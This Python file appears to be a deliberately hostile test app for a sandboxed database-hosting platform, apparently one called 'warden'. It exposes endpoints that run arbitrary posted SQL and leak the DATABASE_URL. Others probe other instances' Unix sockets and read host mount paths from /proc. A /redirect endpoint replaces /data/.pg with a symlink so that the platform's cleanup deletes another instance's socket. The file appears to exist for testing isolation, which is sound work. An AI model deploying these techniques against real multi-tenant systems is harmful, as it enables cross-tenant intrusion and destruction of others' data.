# A hostile data app, stdlib Python and psql only: POST /sql runs the request's body through
# psql on the instance's DATABASE_URL and answers its exit code, output and errors (with
# SQLSTATEs); GET /peer?path=P tries to connect to the Unix socket P (another instance's, the
# server's) and answers whether it could, or the errno; GET /hunt lists the host directories
# other processes' mounts show at /data (a sandbox's), as any uid reads them in /proc;
# GET /redirect?to=DIR[&exit] moves /data/.pg aside, leaves a symlink to DIR in its place
# (and exits),
# so that warden, cleaning up after the instance, would remove DIR's socket.
import errno
import json
import os
import socket
import subprocess
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, HTTPServer

PSQL = "/usr/lib/postgresql/15/bin/psql"


def psql(sql):
    args = [PSQL, os.environ["DATABASE_URL"], "-X", "-q", "-At", "-v", "ON_ERROR_STOP=1",
            "-v", "VERBOSITY=verbose"]
    p = subprocess.run(args, input=sql, capture_output=True, text=True, timeout=30)
    return {"rc": p.returncode, "out": p.stdout, "err": p.stderr}


def peer(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.connect(path)
        return {"connected": True}
    except OSError as e:
        return {"connected": False, "errno": errno.errorcode.get(e.errno, str(e.errno))}
    finally:
        s.close()


def hunt():
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/mountinfo") as f:
                for line in f:
                    fields = line.split()
                    if fields[4] == "/data":
                        found.add(fields[3])
        except OSError:
            pass
    return sorted(found)


class Attack(BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length", "0"))).decode()
        self.reply(psql(body))

    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        q = urllib.parse.parse_qs(url.query)
        if url.path.endswith("/peer"):
            return self.reply(peer(q["path"][0]))
        if url.path.endswith("/hunt"):
            return self.reply(hunt())
        if url.path.endswith("/redirect"):
            os.rename("/data/.pg", "/data/.pg-moved")
            os.symlink(q["to"][0], "/data/.pg")
            if "exit" in q:
                threading.Timer(0.5, os._exit, [0]).start()
            return self.reply({"redirected": True})
        self.reply({"url": os.environ.get("DATABASE_URL")})

    def reply(self, body):
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


HTTPServer(("127.0.0.1", int(os.environ["PORT"])), Attack).serve_forever()
